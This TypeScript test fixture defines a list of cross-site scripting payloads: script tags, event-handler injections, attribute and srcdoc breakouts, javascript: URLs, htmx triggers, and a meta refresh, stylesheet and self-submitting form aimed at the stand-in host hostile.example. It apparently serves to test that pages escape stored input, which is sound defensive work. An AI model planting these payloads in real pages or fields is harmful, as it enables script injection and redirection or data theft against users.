/**
 * What somebody who means harm writes into a name, a subject, a header, a fixture: stored by the mock, shown by a page.
 * Each payload calls `hit`, asks for a path below `hostilePath`, or reaches for `foreignHost`; the stage watches for all
 * three. Each leaves a `data-hostile` behind wherever it becomes markup, which the stage looks for when a test ends.
 * That every one of them works on a page that does not escape is proved in `hostile.browser.ts`.
 */
export interface Payload {
  /** What it tries. */
  readonly name: string
  /** Where it would work if a page were careless: between tags, in an attribute's value, as a link's address. */
  readonly sink: 'text' | 'value' | 'href' | 'srcdoc' | 'raw text'
  /**
   * Below 190 characters, so that it is still short enough for the name of a space.
   * @param field where it is put, a word that reports then name
   */
  readonly text: (field: string) => string
}

/** The path on the mock itself below which nothing but a payload asks. */
export const hostilePath = '/hostile/'
/** Where a payload sends people or takes things from. Names nothing. */
export const foreignHost = 'http://hostile.example'

const hit = (what: string, field: string) => `hit('${what} in ${field}')`

export const hostile: readonly Payload[] = [
  {
    name: 'script',
    sink: 'text',
    text: field => `<script data-hostile="${field}">${hit('script', field)}</script>`,
  },
  {
    name: 'end of raw text',
    sink: 'raw text',
    text: field =>
      `</title></textarea></style></script><script data-hostile="${field}">${hit('end of raw text', field)}</script>`,
  },
  {
    name: 'end of a comment',
    sink: 'text',
    text: field =>
      `--><!-- --!><img src="data:," data-hostile="${field}" onerror="${hit('end of a comment', field)}">`,
  },
  {
    name: 'image that fails',
    sink: 'text',
    text: field => `<img src="data:," data-hostile="${field}" onerror="${hit('image', field)}">`,
  },
  {
    name: 'svg onload',
    sink: 'text',
    text: field => `<svg data-hostile="${field}" onload="${hit('svg', field)}"></svg>`,
  },
  {
    name: 'open details',
    sink: 'text',
    text: field =>
      `<details open data-hostile="${field}" ontoggle="${hit('details', field)}"><summary>x</summary></details>`,
  },
  {
    name: 'breakout of an attribute',
    sink: 'value',
    text: field => `" autofocus data-hostile="${field}" onfocus="${hit('attribute', field)}`,
  },
  {
    name: 'breakout of an attribute and its tag',
    sink: 'value',
    text: field => `"><img src="data:," data-hostile="${field}" onerror="${hit('tag', field)}">`,
  },
  {
    name: 'javascript: URL',
    sink: 'href',
    text: field => `javascript:${hit('javascript: URL', field)}`,
  },
  {
    name: 'frame with srcdoc',
    sink: 'text',
    text: field =>
      `<iframe data-hostile="${field}" srcdoc="<script>${hit('srcdoc', field)}</script>"></iframe>`,
  },
  {
    name: 'breakout of srcdoc',
    sink: 'srcdoc',
    text: field =>
      `"></iframe><script data-hostile="${field}">${hit('breakout of srcdoc', field)}</script><b title="`,
  },
  {
    name: 'script for srcdoc, escaped already',
    sink: 'srcdoc',
    text: field => `&lt;script data-hostile&gt;${hit('escaped script', field)}&lt;/script&gt;`,
  },
  {
    name: 'meta refresh',
    sink: 'text',
    text: field =>
      `<meta data-hostile="${field}" http-equiv="refresh" content="0;url=${foreignHost}/refresh/${field}">`,
  },
  {
    name: 'foreign style sheet',
    sink: 'text',
    text: field => `<link data-hostile="${field}" rel="stylesheet" href="${foreignHost}/style/${field}">`,
  },
  {
    name: 'form that sends itself',
    sink: 'text',
    text: field =>
      `<form data-hostile="${field}" action="${foreignHost}/form/${field}"><input autofocus onfocus="form.submit()"></form>`,
  },
  {
    name: 'hx-get',
    sink: 'text',
    text: field =>
      `<div data-hostile="${field}" hx-get="${hostilePath}hx-get/${field}" hx-trigger="load"></div>`,
  },
  {
    name: 'breakout with hx-get',
    sink: 'value',
    text: field => `" data-hostile="${field}" hx-get="${hostilePath}value/${field}" hx-trigger="load`,
  },
  {
    name: 'hx-on',
    sink: 'text',
    text: field =>
      `<div data-hostile="${field}" hx-get="/" hx-trigger="load" hx-on::before:request="${hit('hx-on', field)}"></div>`,
  },
]

/** All payloads in one text, for a field that takes as much as one likes. */
export const everyPayload = (field: string): string => hostile.map(({ text }) => text(field)).join('\n')
